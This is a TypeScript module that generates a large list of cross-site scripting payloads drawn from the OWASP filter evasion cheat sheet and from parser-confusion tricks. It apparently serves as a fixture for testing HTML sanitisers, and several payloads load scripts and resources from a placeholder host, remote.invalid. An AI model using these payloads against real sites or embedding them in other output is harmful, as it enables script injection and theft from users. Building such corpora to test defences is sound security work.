/**
 * HTML that runs a script in a page that takes it as it is, or loads something from elsewhere: the ways of the OWASP XSS
 * filter evasion cheat sheet, and of parsers that read one text in two ways.
 *
 * @param hit The script: a call without quotes and spaces.
 */
export function payloads(hit: string): string[] {
  const coded = (radix: 10 | 16, end: string) =>
    [...`javascript:${hit}`].map((c) => `&#${radix === 16 ? "x" : "000"}${c.charCodeAt(0).toString(radix)}${end}`).join(
      "",
    );
  const base64 = btoa(`<script>parent.${hit}</script>`);
  const svg = btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"><script>${hit}</script></svg>`);
  return [
    // Scripts, whole, half and disguised.
    `<script>${hit}</script>`,
    `<SCRIPT SRC=${remote}/a.js></SCRIPT>`,
    `<script/x src="${remote}/b.js"></script>`,
    `<script/src="${remote}/c.js"></script>`,
    `<<script>${hit};//\\<</script>`,
    `<script src=${remote}/d.js?< b >`,
    `<script src=//remote.invalid/e.js>`,
    `<script a=">" src="${remote}/f.js"></script>`,
    `<script =">" src="${remote}/g.js"></script>`,
    `<script a=">" '' src="${remote}/h.js"></script>`,
    `<script "a='>'" src="${remote}/i.js"></script>`,
    '<script a=`>` src="' + remote + '/j.js"></script>',
    `<script>document.write("<scri");</script>pt src="${remote}/k.js"></script>`,
    `<scr<script></script>ipt>${hit}</scr<script></script>ipt>`,
    `<script type=module>${hit}</script><script nomodule>${hit}</script>`,
    `</title><script>${hit}</script></textarea></style></noscript></template></select><script>${hit}</script>`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${hit}//'>`,
    `<!--[if gte IE 4]><script>${hit}</script><![endif]-->`,
    `<!--><script>${hit}</script>-->`,
    `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT>${hit}</SCRIPT>'"-->`,
    `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${hit}</script>`,
    `<? echo('<SCR)'; echo('IPT>${hit}</SCRIPT>'); ?>`,
    `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
    // Handlers.
    `<img src=x onerror=${hit}>`,
    `<img src= onerror="${hit}">`,
    `<img/src/onerror=${hit}>`,
    `<img """><script>${hit}</script>">`,
    `<img src=/ onerror="${hit}"></img>`,
    `<img src=x:x onerror\x0b=${hit}>`,
    `<body onload=${hit}>`,
    `<body onload!#$%&()*~+-_.,:;?@[/|\\]^=${hit}>`,
    `<svg/onload=${hit}>`,
    `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to=javascript:${hit} /><a><text y=20>x</text></a></svg>`,
    `<details open ontoggle=${hit}>x</details>`,
    `<input autofocus onfocus=${hit}>`,
    `<video><source onerror=${hit}></video><audio src=x onerror=${hit}></audio>`,
    `<marquee onstart=${hit}>x</marquee>`,
    `<object data=x onerror=${hit}></object>`,
    `<style onload=${hit}></style><link rel=stylesheet href=x onerror=${hit}>`,
    events.map((event) => `<b tabindex=0 on${event}="${hit}" style="display:block">${event}</b>`).join(""),
    // Addresses.
    `<a href="javascript:${hit}">x</a>`,
    `<a href="JaVaScRiPt:${hit}">x</a>`,
    `<a href="${coded(10, ";")}">x</a>`,
    `<a href="${coded(10, "")}">x</a>`,
    `<a href="${coded(16, ";")}">x</a>`,
    `<a href="${coded(16, "")}">x</a>`,
    `<a href="jav\tascript:${hit}">x</a>`,
    `<a href="jav&#x09;ascript:${hit}">x</a>`,
    `<a href="jav&#x0A;ascript:${hit}">x</a>`,
    `<a href="jav&#x0D;ascript:${hit}">x</a>`,
    `<a href="java\0script:${hit}">x</a>`,
    `<a href=" &#14;  javascript:${hit}">x</a>`,
    `<a href="javascript&colon;${hit}">x</a>`,
    `<a href="vbscript:${hit}">x</a><a href="livescript:${hit}">x</a>`,
    `<a href="data:text/html;base64,${base64}">x</a>`,
    `<a href="view-source:javascript:${hit}">x</a><a href="blob:javascript:${hit}">x</a>`,
    `<a href="//remote.invalid/">x</a>`,
    `<img src="javascript:${hit}"><img dynsrc="javascript:${hit}"><img lowsrc="javascript:${hit}">`,
    `<input type=image src="javascript:${hit}">`,
    `<form action="javascript:${hit}"><button formaction="javascript:${hit}">x</button></form>`,
    `<math href="javascript:${hit}">x</math><math><mi xlink:href="javascript:${hit}">x</mi></math>`,
    `<svg><a xlink:href="javascript:${hit}"><text y=20>x</text></a></svg>`,
    `<map><area href="javascript:${hit}" shape=default></map>`,
    // Frames, documents and bases.
    `<iframe src="javascript:${hit}"></iframe>`,
    `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
    `<iframe src=# onload="${hit}"></iframe>`,
    `<iframe src=${remote}/frame.html <`,
    `<frameset><frame src="javascript:${hit}"></frameset>`,
    `<object type="text/html" data="data:text/html;base64,${base64}"></object>`,
    `<embed src="data:image/svg+xml;base64,${svg}" type="image/svg+xml">`,
    `<embed src="${remote}/a.swf" allowscriptaccess=always>`,
    `<portal src="${remote}/p.html"></portal><fencedframe src="${remote}/q.html"></fencedframe>`,
    `<base href="javascript:${hit};//">`,
    `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
    `<meta http-equiv=refresh content="0;url=data:text/html;base64,${base64}">`,
    `<meta http-equiv=refresh content="0; url=${remote}/;url=javascript:${hit}">`,
    `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>${hit}</script>`,
    `<meta http-equiv=Link content="<${remote}/a.css>; rel=stylesheet">`,
    // Styles and what is loaded from elsewhere.
    `<style>@import'${remote}/b.css';</style>`,
    `<style>li {list-style-image: url("javascript:${hit}");}</style><ul><li>x</ul>`,
    `<style>body{background:url("${remote}/a.png")}</style>`,
    `<style type=text/javascript>${hit}</style>`,
    `<link rel=stylesheet href="${remote}/c.css"><link rel=preload as=image href="${remote}/b.png">`,
    `<div style="background-image: url(${remote}/c.png)">x</div>`,
    `<div style="width: expression(${hit})">x</div><x style="behavior: url(x.htc)">`,
    `<table background="${remote}/d.png"><tr><td background="javascript:${hit}">x</table>`,
    `<img src="${remote}/e.png"><img srcset="${remote}/f.png 2x"><picture><source srcset="${remote}/g.png"><img></picture>`,
    `<video poster="${remote}/h.png"></video><bgsound src="${remote}/a.wav"><track src="${remote}/a.vtt">`,
    `<svg><image href="${remote}/i.png" /><use href="${remote}/a.svg#x" /></svg>`,
    `<img src="data:image/svg+xml;base64,${svg}">`,
    `<img src="data:text/html;base64,${base64}">`,
    // One text, read in two ways.
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
    `<math><annotation-xml encoding="text/html"><script>${hit}</script></annotation-xml></math>`,
    `<math><annotation encoding="text/html"><svg onload=${hit}></svg></annotation></math>`,
    `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
    `<svg><style><img src=x onerror=${hit}></style></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
    `<textarea><img title="</textarea><img src=x onerror=${hit}>"></textarea>`,
    `<xmp><img title="</xmp><img src=x onerror=${hit}>"></xmp><plaintext><img src=x onerror=${hit}>`,
    `<template><script>${hit}</script></template><select><template><img src=x onerror=${hit}></select>`,
    `<![CDATA[<img src=x onerror=${hit}>]]><math><![CDATA[</math><img src=x onerror=${hit}>]]>`,
    `<p title="</p><img src=x onerror=${hit}>">x</p>`,
    `<p title='"><img src=x onerror=${hit}>'>x</p>`,
    `<code class="language-x" onclick=${hit} class='"><img src=x onerror=${hit}>'>x</code>`,
    "[x](javascript:" + hit + ") [y](<javascript:" + hit + '>) ![z](x"onerror="' + hit + ") <javascript:" + hit + ">",
    `$\\href{javascript:${hit}}{x}$ and $$\\html{<img src=x onerror=${hit}>}$$`,
    '```ts "><img src=x onerror=' + hit + ">\n<img src=x onerror=" + hit + ">\n```",
  ];
}

/** Where payloads load from. */
export const remote = "https://remote.invalid";

const events = (
  "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforepaste " +
  "beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough change click close contextmenu copy cut " +
  "dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus focusin " +
  "focusout fullscreenchange hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart " +
  "message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide " +
  "pageshow paste pause play playing pointerdown pointerenter pointermove pointerover popstate progress ratechange reset " +
  "resize scroll search seeked seeking select selectionchange selectstart show stalled storage submit suspend timeupdate " +
  "toggle touchcancel touchend touchmove touchstart transitionend transitionrun unload volumechange waiting wheel"
).split(" ");
